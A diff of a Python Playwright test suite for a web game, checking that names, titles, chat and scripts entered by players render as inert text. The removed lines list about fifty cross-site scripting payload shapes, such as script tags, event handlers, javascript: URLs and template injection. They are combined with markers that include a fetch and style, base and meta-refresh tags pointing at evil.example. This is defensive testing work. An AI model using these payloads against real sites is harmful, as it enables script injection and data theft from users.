@@ -1,75 +1,31 @@
-"""Names, titles and talk are text, whatever they hold."""
+"""Names, titles, talk, clocks, scripts and files are text, whatever they hold: a part of the two hundred.
+
+`python -m tools.stress words` fills every field with every payload.
+"""
 
 from __future__ import annotations
 
-from itertools import product
+from pathlib import Path
 
+import pytest
 from playwright.sync_api import expect
+from tools.stress.heap import searched
+from tools.stress.words import CHOSEN, KEPT, PAYLOADS, SHOWN, fields, game, inert, lobby, recording, script
 
 from tests.web.conftest import Invite, Server
 
-MARKERS = ["alert(1)", "window.pwned=1", "fetch('//evil.example/')", "document.title='x'"]
-SHAPES = [
-    "<script>{}</script>",
-    "<img src=x onerror={}>",
-    "<svg onload={}>",
-    "<svg><script>{}</script></svg>",
-    "<iframe srcdoc='<script>{}</script>'></iframe>",
-    "<a href=javascript:{}>x</a>",
-    "<body onload={}>",
-    "<details open ontoggle={}>",
-    "<video><source onerror={}></video>",
-    "<input autofocus onfocus={}>",
-    "<math><mtext><img src=x onerror={}></mtext></math>",
-    "</p><script>{}</script>",
-    "--><script>{}</script><!--",
-    '"><img src=x onerror={}>',
-    "'><svg/onload={}>",
-    "javascript:{}",
-    "data:text/html,<script>{}</script>",
-    "{{{{constructor.constructor('{}')()}}}}",
-    "${{{}}}",
-    "{{ $name }} {}",
-    "<style>@import'//evil.example/';</style>{}",
-    "<link rel=stylesheet href=//evil.example/>{}",
-    "<base href=//evil.example/>{}",
-    "<meta http-equiv=refresh content='0;url=//evil.example/'>{}",
-    "<object data=javascript:{}>",
-    "<embed src=javascript:{}>",
-    "<form action=javascript:{}><button>x</button></form>",
-    "<template><script>{}</script></template>",
-    "<noscript><img src=x onerror={}></noscript>",
-    "<marquee onstart={}>",
-    "<isindex action=javascript:{}>",
-    "<img src=`x` onerror={}>",
-    "<<script>{}//<</script>",
-    "<scr<script>ipt>{}</scr</script>ipt>",
-    "%3Cscript%3E{}%3C/script%3E",
-    "&lt;script&gt;{}&lt;/script&gt;",
-    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
-    "<svg><animate onbegin={} attributeName=x dur=1s>",
-    "<svg><use href='data:image/svg+xml,<svg onload={}>'/></svg>",
-    "<x onclick={} tabindex=1>x</x>",
-    "<img srcset=x onerror={}>",
-    "<audio src onerror={}>",
-    "<select autofocus onfocus={}>",
-    "<textarea autofocus onfocus={}>",
-    "<keygen autofocus onfocus={}>",
-    "<div style=background:url(javascript:{})>",
-    "<div style=width:expression({})>",
-    "\u202e<script>{}</script>",
-    "<img\u00a0src=x\u00a0onerror={}>",
-    "<a href='&#106;avascript:{}'>x</a>",
-]
-PAYLOADS = [shape.format(marker) for shape, marker in product(SHAPES, MARKERS)]
-FOREIGN = ":is(script, img, iframe, object, embed, base, math, marquee, video, audio, style, a, form)"
-HANDLERS = """() => [...document.body.querySelectorAll("*")]
-    .filter((each) => [...each.attributes].some((own) => own.name.startsWith("on")))
-    .map((each) => each.outerHTML.slice(0, 120))"""
+SOME = PAYLOADS[::29]
 
 
 def test_there_are_two_hundred_payloads():
     assert len(set(PAYLOADS)) == 200
+
+
+def test_every_field_that_people_can_fill_is_filled_or_shown_to_nobody():
+    """A new field of the protocol that holds words has to say where they go."""
+    wordy = {each for each in fields() if each.rpartition(".")[2].replace("[]", "") not in CHOSEN}
+    own = {each for each in wordy if not each.endswith("reminders[].id")}
+    assert own == {*SHOWN, *KEPT}
 
 
 # Says all of this to the table, each as soon as the one before it has gone.
@@ -93,36 +49,36 @@ def test_talk_is_inert(house: Server, invite: Invite):
     title = page.title()
     page.evaluate(SAY, PAYLOADS)
     expect(page.locator(".lines .m p")).to_have_count(len(PAYLOADS))
-    assert page.evaluate("window.pwned") is None and page.title() == title
-    assert page.evaluate(HANDLERS) == []
-    assert (
-        page.locator(
-            ".lines :is(script, img, svg:not([aria-hidden]), iframe, a, form, style, object)"
-        ).count()
-        == 0
-    )
+    assert page.title() == title
+    inert(page)
 
 
-def test_names_and_titles_are_inert(house: Server, invite: Invite):
-    """Ten people with such names at one table, which has each of them for its title in turn."""
-    first, *others = [each[:24] for each in PAYLOADS[::20]]
+def test_titles_and_names_in_the_room_are_inert(house: Server, invite: Invite):
+    lobby(invite(house, lang="en"), SOME)
+
+
+def test_clocks_whispers_names_and_the_operator_are_inert(house: Server, invite: Invite):
+    game(invite(house, lang="en"), invite(house, lang="en"), SOME)
+
+
+def test_a_script_and_a_recording_are_inert(house: Server, invite: Invite, tmp_path: Path):
     host = invite(house, lang="en")
-    page = host.go("/new/clocktower")
-    page.fill("input[autocomplete=nickname]", first)
-    page.fill("input[maxlength='60']", first)
-    page.select_option("[data-option-field=players]", str(1 + len(others)))
-    page.click("form > .go")
-    page.wait_for_selector("[data-begin]")
-    code = page.url.rpartition("/")[2]
-    for seat, payload in enumerate(others, start=1):
-        guest = invite(house, lang="en")
-        guest.introduce(payload)
-        guest.order(code, {"type": "sit", "seat": seat})
-        host.order(code, {"type": "settings", "title": payload})
-        expect(page.locator("h1")).to_have_text(payload)
-    page.wait_for_selector("li.mine")
-    assert page.evaluate(HANDLERS) == []
-    page.click("[data-begin]")
-    page.wait_for_selector("section.dock")
-    assert page.evaluate("window.pwned") is None
-    assert page.evaluate(HANDLERS) == []
+    script(host, SOME, tmp_path)
+    recording(host, SOME, tmp_path)
+
+
+def test_a_page_holds_nobody_elses_secrets(house: Server, invite: Invite):
+    """All of its memory is searched; what the page may know is found there."""
+    anna, boris, clara = (invite(house, lang="en") for _ in range(3))
+    held = searched(anna, boris, clara, "whispers", seed=1, presses=3)
+    assert held.known == 6 and held.secrets >= 5
+
+
+def test_what_words_bring_with_them_is_found(house: Server, invite: Invite):
+    """The very check that the others rely on, with words that are taken for more than words."""
+    page = invite(house, lang="en").go("/about")
+    page.wait_for_selector("main")
+    inert(page)
+    page.evaluate("document.querySelector('#nightbell main').innerHTML += '<marquee>x</marquee>'")
+    with pytest.raises(AssertionError):
+        inert(page)
